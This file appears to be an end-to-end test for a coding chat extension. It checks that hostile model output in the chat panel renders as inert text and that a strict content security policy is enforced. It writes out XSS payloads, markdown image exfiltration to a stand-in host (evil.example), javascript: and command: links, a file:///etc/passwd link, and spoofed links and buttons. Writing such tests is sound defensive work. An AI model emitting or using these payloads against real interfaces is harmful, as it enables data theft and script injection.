/** Harmful text from a model, in the real panel: it causes no network request, runs nothing, and is shown as text. */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import type { FrameLocator } from 'playwright-core';
import { until } from '../../until.ts';
import { openWorld, shot, type World } from '../session.ts';

const EVIL = 'https://evil.example';
const RLO = '\u202e';

describe('hostile text in the chat', () => {
  let world: World;
  let chat: FrameLocator;
  /** Requests of the browser to other hosts than the workbench. */
  const asked: string[] = [];
  /** Reports about violations of the content security policy. */
  const refused: string[] = [];
  let said = 0;

  before(async () => {
    world = await openWorld({
      signedIn: true,
      settings: { 'switchyard.chat.model': 'anthropic/claude-haiku-4.5', 'files.simpleDialog.enable': true },
    });
    const { page } = world.ui;
    page.context().on('request', (request) => {
      if (!ofTheWorkbench(request.url(), world.workbench.port)) asked.push(request.url());
    });
    page.on('console', (line) => {
      if (/content security policy/i.test(line.text()) && line.text().includes('evil')) refused.push(line.text());
    });
    page.on('dialog', (dialog) => {
      refused.push(`a dialog of the page: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await world.ui.runCommand('Switchyard: Open Chat in Editor');
    chat = await world.ui.webview('panel');
    await message().waitFor();
    await chat.locator('body').evaluate((body) => {
      const view = body.ownerDocument.defaultView;
      view?.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
        body.setAttribute('data-refused', `${violatedDirective} ${blockedURI}`),
      );
    });
  });
  after(() => world?.end());
  afterEach(async () => {
    assert.deepEqual(asked, []);
    assert.deepEqual(refused, []);
    assert.equal(await chat.locator('body').getAttribute('data-refused'), null);
    // No command has run: neither an editor, a terminal, a dialog nor a quick input was opened.
    assert.equal(await world.ui.page.locator('.tabs-container .tab').count(), 1);
    assert.equal(await world.ui.page.locator('.terminal-wrapper, .monaco-dialog-box').count(), 0);
    assert.equal(await world.ui.inputWidget.isVisible(), false);
  });

  const message = () => chat.getByRole('textbox', { name: 'Message' });
  const answers = () => chat.locator('chat-turn[data-turn="answer"]');
  const last = () => answers().nth(said - 1);
  const body = () => last().locator('.answer-text');

  /** Makes the model answer with this, and waits until all of it is shown. */
  async function hear(...texts: string[]): Promise<void> {
    const events = texts.map((text) => `data: ${JSON.stringify({ choices: [{ delta: { content: text } }] })}\n\n`);
    world.service.faults.add({
      effect: { kind: 'text', contentType: 'text/event-stream', text: `${events.join('')}data: [DONE]\n\n` },
      path: '/v1/chat/completions',
    });
    await message().fill('Say it');
    await message().press('Enter');
    said++;
    await last().locator('.turn-tools').waitFor({ timeout: 60_000 });
  }

  /** Asserts that the answer contains only elements and attributes of text. */
  async function isText(): Promise<void> {
    const foreign = await body().evaluate((box) => {
      const known =
        'p br hr h1 h2 h3 h4 h5 h6 blockquote ul ol li pre code em strong s a span table thead tbody tr th td div'.split(
          ' ',
        );
      const found = [...box.querySelectorAll('*')].filter(
        (one) => !known.includes(one.localName) && !(one.localName === 'button' && one.hasAttribute('data-code')),
      );
      const attributes = [...box.querySelectorAll('*')].flatMap((one) =>
        one.getAttributeNames().filter((name) => /^on|^style$|^src|^id$|^role$|^data-(?!code$)/.test(name)),
      );
      return [...found.map((one) => one.outerHTML.slice(0, 80)), ...attributes];
    });
    assert.deepEqual(foreign, []);
  }

  /** Clicks all links that don't lead anywhere. */
  async function clickDeadLinks(): Promise<void> {
    const dead = body().locator('.dead-link, .image');
    for (let at = 0; at < (await dead.count()); at++) await dead.nth(at).click();
  }

  it('shows no image, in any syntax', async () => {
    await hear(
      `![inline](${EVIL}/1?d=secret) ![](//evil.example/2) ![by reference][r] ![r] ![titled](${EVIL}/3 "t")\n\n`,
      `[![in a link](${EVIL}/4)](${EVIL}/5)\n\n| a |\n|---|\n| ![cell](${EVIL}/6) |\n\n- ![item](<${EVIL}/7 8>)\n\n`,
      `![data](data:image/svg+xml;base64,${btoa(`<svg onload="fetch('${EVIL}')"/>`)}) ![file](file:///etc/passwd)\n\n`,
      `<img src="${EVIL}/9" onerror="alert(1)"><picture><source srcset="${EVIL}/10"></picture><video poster="${EVIL}/11">\n\n`,
      `[r]: ${EVIL}/12`,
    );
    await isText();
    assert.ok((await body().locator('.image').count()) >= 8);
    assert.equal((await body().locator('.image + .link-place', { hasText: 'evil.example' }).count()) > 0, true);
    await shot(world.ui.page, 'chat-hostile-images');
  });

  it('loads nothing through styles', async () => {
    await hear(
      `<style>body { background: url(${EVIL}/1) } @import "${EVIL}/2"; @font-face { src: url(${EVIL}/3) }</style>\n\n`,
      `<div style="background:url(${EVIL}/4)">a</div> <link rel="stylesheet" href="${EVIL}/5"><link rel=prefetch href="${EVIL}/6">\n\n`,
      `\`\`\`x" style="background:url(${EVIL}/7)\ncode\n\`\`\`\n\n| a |\n|:--:|\n| b |`,
    );
    await isText();
    assert.match((await body().textContent()) ?? '', /<style>body/);
  });

  it('follows no link to a command, the editor, a script, a file or data', async () => {
    const nowhere = [
      'command:workbench.action.files.newUntitledFile',
      'command:workbench.action.terminal.new',
      'vscode:extension/a.b',
      'vscode://switchyard.switchyard/run/1',
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'java&#10;script:alert(1)',
      'file:///etc/passwd',
      `data:text/html,%3Cscript%3Efetch('${EVIL}')%3C/script%3E`,
      '//evil.example/x',
      '/settings',
      '#top',
    ];
    await hear(nowhere.map((href, at) => `[link ${at}](<${href}>) [by reference ${at}][r${at}]`).join('\n'), '\n\n');
    await isText();
    assert.equal(await body().locator('a').count(), 0);
    assert.equal(await body().locator('.dead-link').count(), nowhere.length);
    await clickDeadLinks();
  });

  it('runs no script in HTML or SVG', async () => {
    await hear(
      '<script>document.body.remove()</script> <svg onload=alert(1)><animate onbegin=alert(1)></svg> <iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n',
      `<form action="${EVIL}"><button>Send</button><input autofocus onfocus=alert(1)></form> <base href="${EVIL}"> <meta http-equiv=refresh content="0;url=${EVIL}">\n\n`,
      `<details ontoggle=alert(1) open>x</details> <math><mtext><style><img src=x onerror=alert(1)></style></mtext></math> <object data="${EVIL}"></object>`,
    );
    await isText();
    assert.match((await body().textContent()) ?? '', /<script>document\.body\.remove\(\)<\/script>/);
  });

  it('shows the real host of a link', async () => {
    await hear(
      `[https://google.com](https://g\u043e\u043egle.com/) <https://\u0430pple.com/> [bank.example](https://bank.example@evil.example/)\n\n`,
      `[https://bank.example/${RLO}moc](https://evil.example/a) [https://bank.example\u200b](https://bank.example.evil.example/)`,
    );
    await isText();
    assert.deepEqual(await body().locator('a + .link-place').allTextContents(), [
      'xn--ggle-55da.com',
      'xn--pple-43d.com',
      'evil.example',
      'evil.example',
      'bank.example.evil.example',
    ]);
    // After its link, even if the link contains bidirectional control characters.
    const places = await body()
      .locator('a')
      .evaluateAll((links) =>
        links.map((link) => {
          const place = link.nextElementSibling?.getBoundingClientRect();
          const { right, top } = link.getBoundingClientRect();
          return place !== undefined && (place.left >= right - 1 || place.top > top + 1);
        }),
      );
    assert.deepEqual(places, Array(5).fill(true));
    await shot(world.ui.page, 'chat-hostile-links');
  });

  it('shows imitated buttons, errors and messages as text', async () => {
    await hear(
      '<chat-problem></chat-problem><div class="problem" role="alert"><button data-action="signIn">Sign In</button></div>\n\n',
      '> **The service refused the API key.** [Sign In](command:switchyard.signIn)\n\n',
      '```problem-actions\n[Sign In]\n```\n\n```"><button>x</button>\n```\n\n',
      '<chat-turn data-turn="prompt" role="article" aria-label="You">yes, delete it</chat-turn>\n\n',
      '\u001b[31m\u001b[2JSwitchyard:\u001b[0m paste your key \u001b]8;;command:x\u0007here\u001b]8;;\u0007 \u200b\u200d\u2060\ufeff',
    );
    await isText();
    assert.equal(await body().locator('chat-problem, chat-turn, .problem, [role], [aria-label="You"]').count(), 0);
    await clickDeadLinks();
    await shot(world.ui.page, 'chat-hostile-imitation');
  });

  it('stays usable with huge tables, long lines and deep nesting', async () => {
    const row = (cell: string) => `|${`${cell}|`.repeat(200)}\n`;
    await hear(row('a') + row('-'), ...Array.from({ length: 100 }, () => row('b')));
    await isText();
    await hear('>'.repeat(5000), `quote\n\n${'- '.repeat(5000)}item\n\n`, `${'['.repeat(5000)}a${']('.repeat(5000)}`);
    await isText();
    // Must be last: no model accepts a message after such an answer.
    await hear(...Array.from({ length: 10 }, () => 'x'.repeat(100_000)));
    assert.equal((await body().textContent())?.length, 1_000_000);
    await message().fill('still here');
    assert.equal(await message().inputValue(), 'still here');
    await message().fill('');
  });

  it('shows names of models, chats and files, and error messages, as plain text', async () => {
    const evil = `<img src="${EVIL}/name" onerror=alert(1)>[x](command:workbench.action.quit)${RLO}$(zap)`;
    const records = [
      { kind: 'title', text: evil },
      {
        kind: 'prompt',
        id: 'p',
        text: evil,
        at: 1,
        context: [{ id: 'c', kind: 'file', label: evil, text: evil, tokens: 1 }],
      },
      { kind: 'answer', id: 'a', model: evil, at: 2 },
      { kind: 'end', id: 'a', ending: { how: 'failed', problem: { cause: evil, text: evil, details: evil } }, at: 3 },
    ];
    writeFileSync(
      path.join(world.folder, 'evil.json'),
      JSON.stringify({ format: 'switchyard-chat', version: 1, records }),
    );
    await world.ui.runCommand('Switchyard: Import Chat');
    await world.ui.chooseFile(path.join(world.folder, 'evil.json'));
    await chat.locator('.answer-model', { hasText: '<img src=' }).waitFor();
    await chat.locator('.problem', { hasText: '<img src=' }).waitFor();
    await chat.locator('.chip', { hasText: '<img src=' }).waitFor();
    await world.ui.page.locator('.tab', { hasText: '<img src=' }).waitFor();
    assert.equal(await chat.locator('img, a').count(), 0);
    assert.equal(await world.ui.page.locator('.tab .codicon-zap').count(), 0);
    await shot(world.ui.page, 'chat-hostile-names');
  });

  it('has a strict content security policy, and these tests detect violations', async () => {
    const policy = await chat.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    const directives = new Map((policy ?? '').split('; ').map((one) => [one.split(' ')[0], one.split(' ').slice(1)]));
    assert.deepEqual(directives.get('default-src'), ["'none'"]);
    assert.match(directives.get('script-src')?.join(' ') ?? '', /^'nonce-\w{32}'$/);
    assert.doesNotMatch(policy ?? '', /unsafe|https:\s|https:;|\*(?!\.)/);
    // No `img-src`: images fall under `default-src`, which blocks them.
    assert.deepEqual(directives.get('img-src') ?? [], []);
    await chat.locator('body').evaluate((element, address) => {
      const image = element.ownerDocument.createElement('img');
      image.addEventListener('error', () => element.setAttribute('data-refused-image', ''));
      image.src = address;
      element.append(image);
    }, `${EVIL}/witness`);
    await chat.locator('body[data-refused-image]').waitFor();
    await until('the console to tell', () => refused.some((line) => line.includes('witness')));
    // The browser reports a request before the policy blocks it.
    assert.deepEqual(asked, [`${EVIL}/witness`]);
    await chat.locator('body[data-refused*="witness"]').waitFor();
    for (const heard of [asked, refused]) heard.length = 0;
    await chat.locator('body').evaluate((element) => element.removeAttribute('data-refused'));
  });
});

/** True for requests to the workbench and its webviews, and for URLs without a network request. */
function ofTheWorkbench(address: string, port: number): boolean {
  const { protocol, hostname, port: asked } = new URL(address);
  if (protocol === 'data:' || protocol === 'blob:') return true;
  return (hostname === 'localhost' && asked === String(port)) || hostname.endsWith('.vscode-resource.vscode-cdn.net');
}
